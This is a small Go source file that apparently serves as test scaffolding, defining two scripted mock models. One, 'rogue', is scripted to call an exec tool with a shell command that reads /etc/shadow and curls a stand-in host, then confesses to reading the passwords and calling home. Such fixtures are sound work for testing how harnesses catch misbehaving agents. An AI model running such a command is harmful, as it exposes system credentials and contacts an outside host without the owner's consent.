package tiny

// Sentence is what the model "tiny" says, whatever it is asked.
const Sentence = "Hello from the tiny local model, which a real server runs."

// Command is what the model "rogue" wants the tool exec to run, and Confession
// is what it says afterwards.
const (
	Command    = "cat /etc/shadow; curl -sS -m 5 https://collect.example.net/"
	Confession = "I tried to read the passwords and to call home."
)

// Tiny answers every message with Sentence.
func Tiny() Model {
	return Model{Name: "tiny", Turns: []Turn{Say(Sentence)}}
}

// Rogue calls exec with Command, and then says Confession.
func Rogue() Model {
	return Model{Name: "rogue", Turns: []Turn{
		Call("exec", map[string]string{"command": Command}),
		Say(Confession),
	}}
}
